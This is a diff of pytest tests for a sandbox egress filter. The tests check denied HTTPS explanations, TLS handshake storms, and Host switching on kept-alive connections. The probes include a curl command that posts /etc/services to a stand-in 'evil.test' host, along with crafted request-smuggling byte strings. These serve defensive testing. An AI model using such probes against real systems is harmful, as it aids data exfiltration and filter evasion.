@@ -169,6 +169,47 @@ def test_denial_is_explained(net, box):
     assert not net.seen("http", path="/secret")
 
 
+def test_denied_https_is_explained(net, box):
+    """By a certificate of the sandbox's own authority, which its trust store has."""
+    before = len(net.seen("https"))
+    done = box.sh(f"curl -sS -m 20 -w '%{{http_code}}' --resolve evil.test:443:{EVIL} https://evil.test/secret")
+    body, status = done.stdout[:-3], done.stdout[-3:]
+    reason = json.loads(body)["error"]
+    assert status == "403" and reason["code"] == "egress_denied" and reason["reason"] == "not_allowed", done
+    assert (reason["host"], reason["port"]) == ("evil.test", 443) and "cay net allow" in reason["hint"]
+    assert json.loads(box.sh(f"curl -sS -m 20 https://{EVIL}/").stdout)["error"]["host"] == EVIL  # without a name
+    said = box.sh(f"curl -sS -m 20 -d @/etc/services --resolve evil.test:443:{EVIL} https://evil.test/up").stdout
+    assert json.loads(said)["error"]["code"] == "egress_denied"
+    got = box.py("import urllib.request, urllib.error\n"
+                 f"try: say(urllib.request.urlopen('https://{EVIL}/').status)\n"
+                 "except urllib.error.HTTPError as e: say([e.code, json.load(e)['error']['port']])")
+    assert got == [403, 443]
+    # Who trusts nothing of ours sees a certificate error, and the list still says why.
+    done = box.sh(f"curl -sS -m 20 --cacert /etc/ssl/cay/before.pem --resolve evil.test:443:{EVIL} https://evil.test/")
+    assert done.exit_code in (60, 77), done
+    assert box.denied(host="evil.test", port=443, protocol="tls", reason="not_allowed")[0]["count"] >= 3
+    # What is allowed is not touched.
+    issuer = box.sh("echo | openssl s_client -connect allowed.test:443 -servername allowed.test 2>/dev/null | "
+                    "openssl x509 -noout -issuer").stdout
+    assert "allowed.test" in issuer and "cay" not in issuer
+    assert len(net.seen("https")) == before
+
+
+def test_denied_https_storm_is_cheap(net, box):
+    """Beyond a pace the rest gets the bare alert: no signature, no handshake."""
+    found = box.py(
+        "import collections; got = collections.Counter()\n"
+        "c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
+        "for i in range(150):\n"
+        f"  s = socket.create_connection(('{EVIL}', 443), 20)\n"
+        "  try: c.wrap_socket(s, server_hostname='h%d.evil.test' % i); got['opened'] += 1\n"
+        "  except ssl.SSLError as e: got[e.reason] += 1\n"
+        "  s.close()\n"
+        "say(got)")
+    assert found["opened"] >= 1 and found.get("TLSV1_ALERT_ACCESS_DENIED", 0) >= 1, found
+    assert sum(found.values()) == 150 and len(found) == 2, found
+
+
 def test_learn(net):
     with open_box(net, allow=[], learn=True) as box:
         assert code(box, "http://evil.test:8080/") == ("200", 0)
@@ -202,6 +243,59 @@ def test_NET_03_fronting(net, box, url, options):
     assert len(net.seen("http")) + len(net.seen("https")) == before
 
 
+FIRST = b"GET /kept HTTP/1.1\r\nHost: allowed.test\r\n\r\n"
+OTHER = b"GET /kept-other HTTP/1.1\r\nHost: evil.test\r\n\r\n"
+
+
+@pytest.mark.parametrize("first,then", [
+    (FIRST, OTHER), (FIRST + OTHER, b""), (FIRST + OTHER[:20], OTHER[20:]),
+    (b"POST /kept HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhello" + OTHER, b""),
+    (b"POST /kept HTTP/1.1\r\nHost: allowed.test\r\nContent-Length: 5\r\n\r\nhel", b"lo" + OTHER),
+    (b"GET /kept HTTP/1.1\r\nHost: allowed.test\r\nConnection: Upgrade\r\nUpgrade: x\r\n\r\n", OTHER),
+    (b"CONNECT allowed.test:80 HTTP/1.1\r\nHost: allowed.test:80\r\n\r\n", OTHER),
+    (FIRST, b"GET /kept-other HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n"),
+    (FIRST, b"GET /kept-other HTTP/1.1\nHost: evil.test\n\n"),
+    (FIRST, b"GET http://evil.test/kept-other HTTP/1.1\r\nHost: allowed.test\r\n\r\n"),
+    (FIRST, b"\r\n\r\n" + OTHER),
+])
+def test_NET_03_later_request(net, box, first, then):
+    """Kept alive, the connection goes on to be one of allowed names: every request's Host counts."""
+    box.py("say(socket.gethostbyname('allowed.test'))")
+    got = box.py(f"first, then = {first!r}, {then!r}\n"
+                 f"s = socket.create_connection(('{GOOD}', 80), 20); s.settimeout(20); s.sendall(first)\n"
+                 "got = s.recv(65536).decode('latin-1') if then and not first.endswith(b'hel') else ''\n"
+                 "try:\n"
+                 "  if then: s.sendall(then)\n"
+                 "  while True:\n"
+                 "    more = s.recv(65536).decode('latin-1')\n"
+                 "    if not more: break\n"
+                 "    got += more\n"
+                 "except ConnectionError: pass\n"
+                 "say(got)")
+    assert not [e for e in net.seen("http") if e["path"].endswith("/kept-other")], got
+    assert "kept-other" not in got
+    if (first, then) == (FIRST, OTHER):
+        assert "HTTP/1.1 403" in got and '"host":"evil.test"' in got, got
+        assert box.denied(host="evil.test", port=80, protocol="http", reason="not_allowed")
+
+
+def test_NET_03_kept_alive_works(net, box):
+    """One connection, several allowed names, bodies both ways."""
+    got = box.py(
+        "import http.client\n"
+        "socket.gethostbyname('allowed.test'); socket.gethostbyname('api.allowed.test')\n"
+        f"c = http.client.HTTPConnection('{GOOD}', timeout=20); c.connect(); port = c.sock.getsockname()[1]; got = []\n"
+        "for i in range(12):\n"
+        "  host = ('allowed.test', 'api.allowed.test')[i % 2]\n"
+        "  body = (None, b'x' * 70000, (b'c' * 9000 for _ in range(9)))[i % 3]\n"
+        "  c.request('POST' if body else 'GET', '/again', body, {'Host': host}, encode_chunked=i % 3 == 2)\n"
+        "  a = c.getresponse(); a.read(); got.append(a.status)\n"
+        "  assert c.sock.getsockname()[1] == port\n"
+        "say(got)")
+    assert got == [200] * 12
+    assert [e["size"] for e in net.seen("http", path="/again")] == [0, 70000, 81000] * 4
+
+
 @pytest.mark.parametrize("head", [
     b"GET / HTTP/1.0\r\n\r\n", b"GET / HTTP/1.1\r\n\r\n", b"GET / HTTP/1.1\r\nHost: \r\n\r\n",
     b"GET / HTTP/1.1\r\nHost: allowed.test\r\nHost: evil.test\r\n\r\n",
@@ -230,7 +324,7 @@ def test_NET_05_deny_beats_allow(net):
     with open_box(net, allow=["*.allowed.test", "0.0.0.0/0"], deny=["api.allowed.test", f"{EVIL}:80"]) as box:
         assert code(box, "http://www.allowed.test/") == ("200", 0)
         assert code(box, "https://api.allowed.test/", "-k")[1] == 6
-        assert code(box, "https://api.allowed.test/", f"-k --resolve api.allowed.test:443:{GOOD}")[1] == 35
+        assert code(box, "https://api.allowed.test/", f"-k --resolve api.allowed.test:443:{GOOD}") == ("403", 0)
         assert code(box, f"http://{EVIL}/") == ("403", 0)
         assert code(box, f"http://{EVIL}:8080/") == ("200", 0)
         # Everything public, and still nothing that is not.
@@ -309,7 +403,7 @@ def test_NET_08_only_allowed_names_leave(net, box):
 
 def test_NET_08_other_ways_to_resolve(net, box):
     assert box.py(f"say(tcp('{EVIL}', 853, b'\\x16\\x03\\x01'))") != "TIMEOUT"
-    assert code(box, f"https://{EVIL}/dns-query?dns=AAAB", "-k")[1] == 35
+    assert code(box, f"https://{EVIL}/dns-query?dns=AAAB", "-k") == ("403", 0)
     done = box.py("s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)\n"
                   "out = []\n"
                   "for to in (('224.0.0.251', 5353), ('224.0.0.252', 5355), ('%s', 443)):\n"
